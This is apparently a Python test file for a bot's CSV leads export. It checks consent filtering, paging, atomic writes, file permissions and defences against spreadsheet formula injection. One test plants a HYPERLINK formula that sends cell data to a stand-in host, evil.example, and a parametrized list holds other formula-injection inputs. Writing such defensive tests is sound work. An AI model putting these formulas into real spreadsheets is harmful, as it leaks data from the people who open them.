"""Leads as a table: opens in Excel, runs nothing, holds only those who agreed, parses back equal."""

from __future__ import annotations

import csv
import logging
import os
import stat
from datetime import timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import insert, select, update

from bot import exports
from bot.exports import COLUMNS, export_leads, plain, safe
from storage import consents
from storage.tables import Answer, Contact, Lead
from tests.person_play import Play

PHONE = "+79051112233"


on_both = pytest.mark.parametrize("kind", ["sqlite", "postgresql"])


@pytest.fixture
def kind() -> str:
    """SQLite alone, for what has nothing to do with the kind of database."""
    return "sqlite"


@pytest.fixture
def database_url(kind: str, request: pytest.FixtureRequest) -> str:
    return str(request.getfixturevalue(f"{kind}_url"))


@pytest.fixture
async def play(database, clock) -> Play:
    return await Play.begin(database, clock)


def table(path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file, delimiter=";"))
    assert tuple(rows[0]) == COLUMNS and all(len(row) == len(COLUMNS) for row in rows)
    return [dict(zip(COLUMNS, map(plain, row), strict=True)) for row in rows[1:]]


@on_both
async def test_E2_E5_E8_the_file_says_what_the_leads_say(play, database, tmp_path):
    anna = play.person("Анна", "778899001122")
    await anna.applies(PHONE, called="Анна Снегирёва")
    await anna.taps("Не согласен")  # to advertising
    path = tmp_path / "leads.csv"
    assert await export_leads(database, path) == 1
    (row,) = table(path)
    assert row["Имя"] == "Анна Снегирёва" and row["Телефон"] == PHONE and row["Статус"] == "application"
    assert (row["Источник"], row["Кампания"], row["Канал"]) == ("vk_ads", "spring", "telegram")
    assert row["Подана"] == "23.11.2026 12:00" and row["Балл"] == "55"
    assert "Автомобиль: Кроссовер" in row["Ответы"].splitlines()
    assert any(row["Промокод"] in one.text for one in anna.screen) and row["Промокод"].startswith("SPRING-")
    assert row["Персональные данные"] == "дано 23.11.2026 12:00"
    assert row["Реклама"] == "не дано 23.11.2026 12:00"
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    assert b";'+79051112233;" in raw  # E2: text for Excel, neither a formula nor 7.9E+10


@on_both
async def test_E8_people_without_consent_withdrawn_or_erased_are_absent(play, database, tmp_path):
    people = [play.person(name, str(880000000 + at)) for at, name in enumerate(("Анна", "Борис", "Вера"))]
    for at, one in enumerate(people):
        await one.agrees()
        await one.says("Кроссовер") if at else await one.says("Седан")
    anna, boris, _ = people
    await anna.says("удалите мои данные")
    await anna.taps("Да, удалить всё")
    async with database.write() as db:
        name = await consents.pseudonym(db, "telegram", boris.id)
        await consents.withdraw(db, pseudonym=name, channel="operator", event_id="letter", now=play.clock.now())
    await play.person("Гость", "880000009").opens()
    path = tmp_path / "leads.csv"
    assert await export_leads(database, path) == 1
    assert [row["Заявка"] for row in table(path)] == ["3"]


@on_both
async def test_E6_many_pages_are_one_file_in_order(play, database, tmp_path):
    anna = play.person("Анна", "778899001122")
    await anna.agrees()
    async with database.write() as db:
        contact = await db.scalar(select(Contact.id))
        made = {
            "contact_id": contact, "channel": "web", "flow": "courses", "status": "won", "source": "s", "campaign": "",
            "score": 0, "reasons": [], "applications": 0, "created_at": play.clock.now(),
        }  # fmt: skip
        await db.execute(insert(Lead), [made] * (2 * exports.AT_ONCE))
    path = tmp_path / "leads.csv"
    assert await export_leads(database, path) == 2 * exports.AT_ONCE + 1
    numbers = [int(row["Заявка"]) for row in table(path)]
    assert numbers == sorted(numbers) and len(set(numbers)) == len(numbers)


@on_both
async def test_E7_what_changes_during_the_export_is_not_half_in_it(play, database, tmp_path):
    anna = play.person("Анна", "778899001122")
    await anna.agrees()
    async with database.read() as db:
        await exports._one_moment(db)
        pages = exports._pages(db)
        first = [lead.id for lead in await anext(pages)]
        boris = play.person("Борис", "553311997755")
        await boris.agrees()
        assert first == [1] and [page async for page in pages] == []


async def test_E1_what_people_write_does_not_run_on_the_business_s_computer(play, database, tmp_path):
    evil = '=HYPERLINK("http://evil.example?"&A1;"Жми")'
    anna = play.person("Анна", "778899001122")
    await anna.applies(PHONE)
    async with database.write() as db:
        await db.execute(update(Contact).values(name=evil))
        await db.execute(update(Lead).values(campaign="@SUM(1)", source="x;y"))
        await db.execute(update(Answer).values(shown='раз\nдва;"три"'))
    path = tmp_path / "leads.csv"
    await export_leads(database, path)
    with path.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file, delimiter=";") for cell in row]
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r\n")]
    (row,) = table(path)
    assert (row["Имя"], row["Кампания"], row["Источник"]) == (evil, "@SUM(1)", "x;y")
    assert 'раз\nдва;"три"' in row["Ответы"]


@pytest.mark.parametrize(
    "value",
    [
        "=1+1", "+79001234567", "-5", "@cmd", "\t=1", "\r=1", "\n=1", "＝1+1", "＋7", "－1", "＠x", "  =1",
        '"=1', "'=1", "« =1", "−1",
    ],
)  # fmt: skip
def test_E1_whatever_may_be_a_formula_is_made_text_and_can_be_read_back(value):
    assert safe(value).startswith("'") and plain(safe(value)) == value


@pytest.mark.parametrize("value", ["Анна", "55", "", "дано 23.11.2026", "SPRING-K7PX4M", "a=b", "«Омега» - лучше"])
def test_what_is_harmless_stays_as_it_is(value):
    assert safe(value) == value == plain(safe(value))


@given(st.text(st.characters(exclude_categories=["Cs", "Cc"]) | st.sampled_from("\n\t=+-@';\""), max_size=30))
def test_E1_E5_any_text_comes_back_equal(value):
    assert plain(safe(value)) == value
    assert safe(value)[:1] not in tuple("=+-@\t\r\n＝＋－＠")


def test_E4_control_characters_go_and_what_exceeds_a_cell_is_cut_with_a_word():
    assert safe("Ан\x00на\x1b[31m\ud800") == "Анна[31m"
    assert safe("я" * 32_500).endswith("я… [ещё 500 знаков]") and len(safe("я" * 100_000)) < 32_767


async def test_E9_an_export_that_fails_leaves_nothing_and_keeps_the_former_file(play, database, tmp_path):
    anna = play.person("Анна", "778899001122")
    await anna.agrees()
    path = tmp_path / "leads.csv"
    assert await export_leads(database, path) == 1
    former = path.read_bytes()
    async with database.engine.begin() as connection:
        await connection.exec_driver_sql("ALTER TABLE contact_point RENAME TO gone")
    with pytest.raises(Exception, match="contact_point"):
        await export_leads(database, path)
    assert path.read_bytes() == former
    assert not [name for name in os.listdir(tmp_path) if name.endswith(".part")]


async def test_E9_what_a_killed_export_left_is_removed_by_the_next(play, database, tmp_path):
    (tmp_path / ".leads.csv.part").write_text("Анна;+79051112233")
    assert await export_leads(database, tmp_path / "leads.csv") == 0
    assert sorted(name for name in os.listdir(tmp_path) if "csv" in name) == ["leads.csv"]


async def test_E10_I11_the_file_is_its_owner_s_alone_and_the_log_has_numbers_only(
    play, database, tmp_path, caplog, capsys
):
    anna = play.person("Анна", "778899001122")
    await anna.applies(PHONE, called="Анна Снегирёва")
    path = tmp_path / "leads.csv"
    with caplog.at_level(logging.INFO):
        await export_leads(database, path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    said = caplog.text + "".join(capsys.readouterr())
    assert "exported" in said and "leads" in said
    assert not [secret for secret in ("Снегирёва", "9051112233", "778899001122") if secret in said]


async def test_a_cold_lead_of_weeks_ago_is_in_the_file_too(play, database, tmp_path):
    anna = play.person("Анна", "778899001122")
    await anna.agrees()
    await play.forward(timedelta(days=14))
    path = tmp_path / "leads.csv"
    await export_leads(database, path)
    assert [row["Статус"] for row in table(path)] == ["cold"]
